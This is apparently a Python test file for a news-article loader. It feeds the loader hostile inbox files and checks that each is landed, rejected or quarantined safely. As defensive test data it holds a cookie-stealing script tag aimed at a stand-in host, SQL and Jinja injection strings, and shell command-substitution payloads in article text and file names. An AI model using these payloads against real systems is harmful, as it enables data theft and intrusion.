"""One load over an inbox of everything a scraper might drop there, next to good articles.

ONE `newswarehouse run` (module fixture) over an inbox holding every hostile
input; then one assertion per input: it is landed exactly, or rejected with a
readable reason, or counted as known content, and the rest of the load
publishes. Injection payloads (SQL, Jinja, shell) in texts and file names are
stored as text and have no other effect. docs/reliability.md lists the cases.
"""

from __future__ import annotations

import codecs
import json
import os
from dataclasses import dataclass
from pathlib import Path

import duckdb
import pytest
from conftest import PROJECT_ROOT, SAMPLES

from newswarehouse.loading.decoding import decode
from newswarehouse.loading.inbox import (
    LandedFile,
    RejectedFile,
    article_id_of,
    read_one,
    scan_inbox,
    source_uri_of,
)

pytestmark = pytest.mark.slow

SAMPLE_TEXTS = [p.read_text(encoding="utf-8") for p in sorted(SAMPLES.iterdir()) if p.suffix == ".txt"]
IS_ROOT = os.geteuid() == 0


def _variant(i: int, note: str) -> str:
    """A distinct article (a sample plus a correction line): lands as its own row."""
    return SAMPLE_TEXTS[i % len(SAMPLE_TEXTS)].rstrip("\n") + f"\n\nCorrection: {note}\n"


CP1252_ARTICLE = (
    "Café owners in Besançon protest new terrace rules\n\n"
    "By Amélie Dupré\n\n"
    "Café owners in Besançon said on Tuesday that the city’s new terrace rules would cost them dearly. "
    "“We are not naïve,” said Jérôme Lefèvre, who runs a brasserie near the cathedral. "
    "The mayor’s office said the rules protect residents from noise late at night.\n\n"
    "Owners plan to meet officials next week, according to the local trade association, which "
    "represents more than two hundred businesses in the old town.\n"
)
GERMAN_ARTICLE = (
    "Neue Regeln für Radfahrer in der Innenstadt\n\n"
    "Von Anna Schmidt\n\n"
    "Die Stadtverwaltung hat am Dienstag neue Regeln für Radfahrer in der Innenstadt beschlossen. Nach Angaben "
    "der Behörde sollen die Radwege bis zum Sommer deutlich verbreitert werden.\n\n"
    "„Wir wollen, dass sich alle Verkehrsteilnehmer sicher fühlen“, sagte Bürgermeister Klaus Weber bei einer "
    "Pressekonferenz im Rathaus. Die Opposition kritisierte die Pläne als zu teuer.\n"
)
QUOTE_STORM = (
    "Readers flood council inbox with quotation marks\n\n"
    "By Staff Reporter\n\n"
    "The council said on Monday that a malfunctioning web form had sent thousands of messages made of nothing "
    "but quotation marks to its public comment inbox over the weekend, according to a spokesperson.\n\n"
    + " ".join(["\"", "“", "”", "'", "‘", "’", "«", "»", "„"] * 400) + "\n\n"
    + "He said \"" + " \"".join(["yes"] * 300) + "\n\n"
    "“The form has been fixed,” the spokesperson said, adding that no messages were lost.\n"
)
CHROME_ONLY = (
    "Skip to content\nHome | News | Sport | Business | Weather | Contact\nSign in | Subscribe\n"
    "We use cookies to improve your experience. Accept | Manage preferences\n"
    "Share this article: Facebook | X | Email | Print\nAdvertisement\nSubscribe to our newsletter\n"
    "Related articles\nMost read\nFollow us on social media\n© 2024 Example Media Group. All rights reserved.\n"
    "Privacy policy | Terms of use | Accessibility\n"
)
ONE_HUGE_LINE = "Budget passes after marathon session\n\n" + (
    "The council said on Tuesday that the new budget would protect local services for residents. " * 53_000
)[: 5_000_000 - 40] + "\n"

# name, text, encoding
JUNK = [
    ("junk-note.txt", "Back at four, the spare key is under the blue pot.\n", "utf-8"),
    ("junk-hi-utf16.txt", "Hi there", "utf-16"),
    ("junk-quote-marks.txt", '"' * 3000 + "\n", "utf-8"),
    ("junk-drop-table.txt", "'; DROP TABLE articles; --\n", "utf-8"),
    ("junk-script.txt", "<script>document.location='https://example.invalid/?c='+document.cookie</script>\n", "utf-8"),
]

SQL = "'; drop table raw.articles; --"
SQL2 = '"; delete from staging.stg_articles where 1=1; --'
JINJA = "{{ 7 * 7 }} {{ var('near_duplicate_threshold') }} {% for x in range(3) %}loop{% endfor %} {# note #}"


def _injection_article(marker_dir: Path) -> tuple[str, list[str]]:
    shell = [f"$(touch {marker_dir}/pwned_dollar)", f"`touch {marker_dir}/pwned_backtick`",
             f"; touch {marker_dir}/pwned_semicolon;", f"| touch {marker_dir}/pwned_pipe", "&& echo injected >&2"]
    text = (
        "Council hears unusual public comments on its new website\n\n"
        "By Staff Reporter\n\n"
        f"At Tuesday's meeting, resident Dana Whitfield read out a comment that began “{SQL}” before the council "
        "moved on to the budget, officials said. Council members laughed and said the website was safe.\n\n"
        f"Another resident, Omar Castell, said the form also accepted text such as “{SQL2}” and “{JINJA}” without "
        "complaint, and the city's technology office said it would review the form next month.\n\n"
        f"A third message, read into the record by the clerk, contained the strings {' and '.join(shell)}, "
        "which the clerk said looked like computer commands. The council then adjourned for the evening.\n"
    )
    return text, [SQL, SQL2, JINJA, *shell]


@dataclass
class Case:
    name: str | bytes  # file name in the inbox (bytes: not valid UTF-8)
    outcome: str  # landed | rejected | known | quarantined_or_rejected | not_lost
    reason: str = ""  # for rejected: a substring of the recorded reason
    text: str | None = None  # for landed: the exact raw_text expected


@dataclass
class Hostile:
    inbox: Path
    marker_dirs: list[Path]
    outside_secret: str
    cases: dict[str, Case]  # source_uri -> case
    payloads: list[str]
    injection_uri: str
    output: str
    returncode: int
    articles: dict[str, dict]  # source_uri -> raw row
    by_id: dict[str, dict]
    rejected: dict[str, str]  # source_uri -> reason
    staged: dict[str, str]  # article_id -> body_text
    quarantined: dict[str, list[str]]  # article_id -> reasons
    published: set[str]  # article_ids in marts.dim_articles
    load: dict


def _write(inbox: Path, name: str | bytes, data: bytes) -> Path:
    path = Path(os.fsdecode(os.path.join(os.fsencode(inbox), os.fsencode(name))))
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def _build_inbox(root: Path) -> tuple[Path, dict[str, Case], list[str], str, list[Path], str]:
    inbox, outside = root / "inbox", root / "outside"
    inbox.mkdir()
    outside.mkdir()
    secret = "Secret memo outside the inbox\n\nThis text lives outside the inbox and must never be landed by following a link.\n"
    (outside / "secret.txt").write_text(secret)
    cases: list[tuple[Path, Case]] = []

    def add(name: str | bytes, data: bytes, case: Case) -> Path:
        path = _write(inbox, name, data)
        cases.append((path, case))
        return path

    utf8 = str.encode
    # Good articles, and the same article again under another name.
    add("good-1.txt", utf8(SAMPLE_TEXTS[0]), Case("good-1.txt", "landed", text=SAMPLE_TEXTS[0]))
    add("good-2.txt", utf8(SAMPLE_TEXTS[1]), Case("good-2.txt", "landed", text=SAMPLE_TEXTS[1]))
    add("same content as good-2 (copy).txt", utf8(SAMPLE_TEXTS[1]), Case("copy", "known"))
    # Empty and not-text files.
    add("empty.txt", b"", Case("empty", "rejected", "empty"))
    add("whitespace.txt", b" \n\t\r\n  \n", Case("whitespace", "rejected", "empty or whitespace"))
    add("bom-only.txt", codecs.BOM_UTF8, Case("bom only", "rejected", "empty or whitespace"))
    add("nul-bytes.txt", b"Council meets\x00\x00\x00 on Tuesday\x00" * 20, Case("nul", "rejected", "NUL"))
    add("utf16-no-bom.txt", SAMPLE_TEXTS[2].encode("utf-16-le"), Case("utf16 no bom", "rejected", "NUL"))
    add("random-bytes.bin", bytes((i * 167 + 13) % 128 + 128 for i in range(4000)),
        Case("random bytes", "rejected", "no other text encoding"))
    # Encodings that are text.
    add("utf16-bom.txt", SAMPLE_TEXTS[2].encode("utf-16"), Case("utf16", "landed", text=SAMPLE_TEXTS[2]))
    add("windows-1252.txt", CP1252_ARTICLE.encode("cp1252"), Case("cp1252", "landed", text=CP1252_ARTICLE))
    add("crlf.txt", SAMPLE_TEXTS[3].replace("\n", "\r\n").encode(), Case("crlf", "landed", text=SAMPLE_TEXTS[3]))
    damaged = _variant(4, "a damaged byte follows").encode()
    cut = damaged.index(b"\xe2\x80")  # inside the first curly quote or dash: a truncated character
    add("damaged-utf8.txt", damaged[:cut] + b"\xff" + damaged[cut:],
        Case("damaged utf8", "landed", text=(damaged[:cut] + b"\xff" + damaged[cut:]).decode("utf-8", "replace")))
    # Sizes.
    big = utf8(SAMPLE_TEXTS[5]) * (50 * 1024 * 1024 // len(utf8(SAMPLE_TEXTS[5])) + 1)
    add("fifty-megabytes.txt", big, Case("50 MB", "rejected", "over the 5,242,880-byte limit"))
    add("one-5MB-line.txt", utf8(ONE_HUGE_LINE), Case("5 MB line", "quarantined_or_rejected", text=ONE_HUGE_LINE))
    # Markup and data: land as received (a page, a scraper's record); empty ones are rejected.
    page = "<!DOCTYPE html><html><head><title>x</title></head><body><p>Story</p></body></html>"
    add("page.html", page.encode(), Case("html", "landed", text=page))
    templated = "<html><body><p>Templated</p></body></html>"
    add("{{ 7 * 7 }} page.html", templated.encode(), Case("jinja html", "landed", text=templated))
    record = json.dumps({"title": "x", "body": "The council said."})
    add("data.json", record.encode(), Case("json", "landed", text=record))
    add("blank-page.html", b"<html><body><script>x()</script></body></html>", Case("blank html", "rejected", "no visible text"))
    add("no-text.json", json.dumps({"title": "x"}).encode(), Case("json without text", "rejected", "no article text"))
    # Links: never followed, wherever they point.
    for name, target in (("link-outside.txt", outside / "secret.txt"), ("link-dir", outside),
                         ("link-dangling.txt", root / "nowhere.txt"), ("link-inside.txt", inbox / "good-1.txt")):
        os.symlink(target, inbox / name)
        cases.append((inbox / name, Case(name, "rejected", "symbolic link")))
    # Unreadable things. Root reads a mode-000 file, so there it lands; a FIFO is never opened.
    os.mkfifo(inbox / "named-pipe.txt")
    cases.append((inbox / "named-pipe.txt", Case("fifo", "rejected", "not a regular file")))
    mode0 = add("mode-000.txt", utf8(_variant(6, "unreadable for most users")),
                Case("mode 000", "landed", text=_variant(6, "unreadable for most users")) if IS_ROOT
                else Case("mode 000", "rejected", "cannot read"))
    mode0.chmod(0)
    add("folder.txt/inside.txt", utf8(_variant(7, "in a folder named like a file")),
        Case("dir named .txt", "landed", text=_variant(7, "in a folder named like a file")))
    # File names.
    names = [
        "it's \"quoted\".txt", "semi;colon & pipe|.txt", "  spaces  and\ttab .txt", "line\nbreak.txt",
        "Ελληνικά русский 中文 العربية हिन्दी.txt", "-rf --no-preserve-root.txt", "$(touch pwned_name).txt",
        "`touch pwned_backtick_name`.txt", f"{SQL}.txt", "{{ 7 * 7 }} {% raw %}.txt", "a" * 240 + ".txt",
        b"caf\xe9 latin-1 name.txt",
    ]
    for i, name in enumerate(names):
        text = _variant(8 + i, f"file name case {i}")
        add(name, utf8(text), Case(repr(name), "landed", text=text))
    # Content.
    add("deutsch.txt", utf8(GERMAN_ARTICLE), Case("german", "not_lost", text=GERMAN_ARTICLE))
    add("quote-storm.txt", utf8(QUOTE_STORM), Case("quotes", "not_lost", text=QUOTE_STORM))
    add("chrome-only.txt", utf8(CHROME_ONLY), Case("chrome only", "quarantined_or_rejected", text=CHROME_ONLY))
    # Junk beside articles (issue 12): each is quarantined or rejected on its own; the load publishes.
    for name, text, encoding in JUNK:
        add(name, text.encode(encoding), Case(name, "quarantined_or_rejected", text=text))
    marker_dirs = [root, inbox, PROJECT_ROOT]
    injection, payloads = _injection_article(root)
    injection_path = add("injection.txt", utf8(injection), Case("injection", "landed", text=injection))
    return inbox, {source_uri_of(p): c for p, c in cases}, payloads, secret, marker_dirs, source_uri_of(injection_path)


@pytest.fixture(scope="module")
def hostile(run_cli, tmp_path_factory) -> Hostile:
    root = tmp_path_factory.mktemp("hostile")
    inbox, cases, payloads, secret, marker_dirs, injection_uri = _build_inbox(root)
    result = run_cli(inbox, root / "wh" / "warehouse.duckdb")
    with duckdb.connect(str(result.warehouse), read_only=True) as con:
        cols = ("article_id", "source_uri", "raw_text", "byte_size", "source_encoding")
        articles = {r[1]: dict(zip(cols, r)) for r in con.execute(f"select {', '.join(cols)} from raw.articles").fetchall()}
        rejected = dict(con.execute("select source_uri, reason from raw.rejected_files").fetchall())
        staged = dict(con.execute("select article_id, body_text from staging.stg_articles").fetchall())
        quarantined: dict[str, list[str]] = {}
        for aid, check, reason in con.execute(
            "select article_id, check_name, reason from audit.quarantined_articles"
        ).fetchall():
            quarantined.setdefault(aid, []).append(f"{check}: {reason}")
        published = {r[0] for r in con.execute("select article_id from marts.dim_articles").fetchall()}
        row = con.execute("select status, files_seen, articles_landed, files_already_known, files_rejected, "
                          "landing_report from audit.load_runs").fetchall()
    assert len(row) == 1, row
    keys = ("status", "files_seen", "articles_landed", "files_already_known", "files_rejected", "landing_report")
    load = dict(zip(keys, row[0]))
    load["landing_report"] = json.loads(load["landing_report"])
    return Hostile(inbox, marker_dirs, secret, cases, payloads, injection_uri, result.output, result.returncode,
                   articles, {a["article_id"]: a for a in articles.values()}, rejected, staged, quarantined,
                   published, load)


def test_the_load_publishes_despite_the_hostile_inputs(hostile):
    assert hostile.returncode == 0, hostile.output[-5000:]
    assert hostile.load["status"] == "published"
    for uri in (str(hostile.inbox / "good-1.txt"), str(hostile.inbox / "good-2.txt")):
        assert hostile.articles[uri]["article_id"] in hostile.published


def test_every_input_is_accounted_for(hostile):
    """Each entry of the inbox: in raw.articles, in raw.rejected_files, or known content; counts add up."""
    entries = _entries(hostile.inbox)
    assert {source_uri_of(p) for p in entries} == set(hostile.cases)
    load = hostile.load
    assert load["files_seen"] == len(entries)
    assert load["articles_landed"] + load["files_already_known"] + load["files_rejected"] == load["files_seen"]
    assert load["articles_landed"] == len(hostile.articles)
    known = 0
    for path in entries:
        uri = source_uri_of(path)
        if uri in hostile.articles or uri in hostile.rejected:
            continue
        item = read_one(path, 5 * 1024 * 1024)
        assert isinstance(item, LandedFile) and item.article_id in hostile.by_id, f"{uri} is lost"
        known += 1
    assert known == load["files_already_known"]
    assert sorted(u for u, _ in load["landing_report"]["rejections"]) == sorted(hostile.rejected)


def _entries(inbox: Path) -> list[Path]:
    out = []
    for dirpath, dirnames, filenames in os.walk(inbox):
        out += [Path(dirpath) / d for d in dirnames if (Path(dirpath) / d).is_symlink()]
        out += [Path(dirpath) / f for f in filenames]
    return out


@pytest.mark.parametrize("outcome", ["rejected", "landed", "known", "quarantined_or_rejected", "not_lost"])
def test_each_input_gets_its_expected_outcome(hostile, outcome):
    checked = 0
    for uri, case in hostile.cases.items():
        if case.outcome != outcome:
            continue
        checked += 1
        row = hostile.articles.get(uri)
        if outcome == "rejected":
            assert uri in hostile.rejected, f"{case.name}: not rejected"
            assert case.reason in hostile.rejected[uri], f"{case.name}: {hostile.rejected[uri]!r}"
            assert row is None
        elif outcome == "landed":
            assert row is not None, f"{case.name}: not landed ({hostile.rejected.get(uri)})"
            assert row["raw_text"] == case.text, f"{case.name}: text changed"
            assert row["article_id"] == article_id_of(case.text)
            assert row["article_id"] in hostile.staged or row["article_id"] in hostile.quarantined, case.name
        elif outcome == "known":
            assert row is None and uri not in hostile.rejected
        elif outcome == "quarantined_or_rejected":
            if uri in hostile.rejected:
                assert hostile.rejected[uri].strip()
            else:
                assert row is not None and row["raw_text"] == case.text, f"{case.name}: not landed"
                reasons = hostile.quarantined.get(row["article_id"])
                assert reasons and all(r.strip() for r in reasons), f"{case.name}: published without a reason"
                assert row["article_id"] not in hostile.published
        elif outcome == "not_lost":
            assert row is not None and row["raw_text"] == case.text, f"{case.name}: not landed exactly"
            aid = row["article_id"]
            assert (aid in hostile.staged and hostile.staged[aid].strip()) or hostile.quarantined.get(aid), (
                f"{case.name}: neither published with a body nor quarantined with a reason")
    assert checked


def test_every_landed_article_is_published_or_quarantined_with_a_reason(hostile):
    for aid, row in hostile.by_id.items():
        if aid in hostile.quarantined:
            assert aid not in hostile.published
            continue
        assert aid in hostile.staged and aid in hostile.published, f"{row['source_uri']} silently dropped"


def test_no_article_is_doubled(hostile):
    assert len(hostile.by_id) == len(hostile.articles)
    with duckdb.connect(str(hostile.inbox.parent / "wh" / "warehouse.duckdb"), read_only=True) as con:
        for table in ("raw.articles", "staging.stg_articles", "marts.dim_articles"):
            total, distinct = con.execute(f"select count(*), count(distinct article_id) from {table}").fetchone()
            assert total == distinct, table


def test_links_are_never_followed(hostile):
    for row in hostile.articles.values():
        assert hostile.outside_secret not in row["raw_text"]
    link_inside = source_uri_of(hostile.inbox / "link-inside.txt")
    assert link_inside in hostile.rejected and link_inside not in hostile.articles


def test_a_name_that_is_not_utf8_is_stored_escaped(hostile):
    assert f"{hostile.inbox}/caf\\xe9 latin-1 name.txt" in hostile.articles


def test_injection_has_no_effect_beyond_being_stored_as_text(hostile):
    for directory in hostile.marker_dirs:
        assert not list(directory.glob("pwned*")), f"a shell payload ran: {list(directory.glob('pwned*'))}"
    assert not list(Path("/tmp").glob("pwned*"))
    row = hostile.articles[hostile.injection_uri]
    body = hostile.staged[row["article_id"]]
    for payload in hostile.payloads:
        assert payload in row["raw_text"] and payload in body, payload
    # Names with SQL, Jinja and shell syntax round-trip through the database and Airflow XCom unchanged.
    for name in (f"{SQL}.txt", "{{ 7 * 7 }} {% raw %}.txt", "$(touch pwned_name).txt", "`touch pwned_backtick_name`.txt"):
        assert str(hostile.inbox / name) in hostile.articles, name
    assert str(hostile.inbox / "{{ 7 * 7 }} page.html") in hostile.articles
    assert not [u for u in hostile.articles if u.endswith("/49 page.html")]


# Fast checks of the same landing rules, without a load.

def test_a_name_that_is_not_utf8_no_longer_fails_the_landing(tmp_path):
    """It used to raise UnicodeEncodeError (a lone surrogate) and fail the whole load, and every later one."""
    path = _write(tmp_path, b"caf\xe9.txt", b"Title\n\nThe mayor said the plan was good.\n")
    item = read_one(path, 10_000)
    assert isinstance(item, LandedFile) and item.source_uri == f"{tmp_path}/caf\\xe9.txt"
    item.source_uri.encode("utf-8")
    assert [i.source_uri for i in scan_inbox(tmp_path, 10_000)] == [item.source_uri]


def test_damaged_utf8_is_kept_as_utf8_not_guessed_as_a_legacy_code_page():
    """One stray byte in a UTF-8 article used to land it as mac_iceland mojibake."""
    text = SAMPLE_TEXTS[1]
    data = text.encode()
    cut = data.index("’".encode()) if "’" in text else data.index("—".encode())
    decoded = decode(data[:cut] + b"\xff" + data[cut:])
    assert decoded.text == text[: len(data[:cut].decode())] + "\ufffd" + text[len(data[:cut].decode()):]
    assert decoded.encoding.startswith("utf-8 (1 invalid")


def test_legacy_text_is_still_detected_as_such():
    assert decode(CP1252_ARTICLE.encode("cp1252")).text == CP1252_ARTICLE


def test_a_fifo_is_rejected_without_being_opened(tmp_path):
    os.mkfifo(tmp_path / "pipe.txt")
    item = read_one(tmp_path / "pipe.txt", 10_000)  # opening it would block forever
    assert isinstance(item, RejectedFile) and "not a regular file" in item.reason

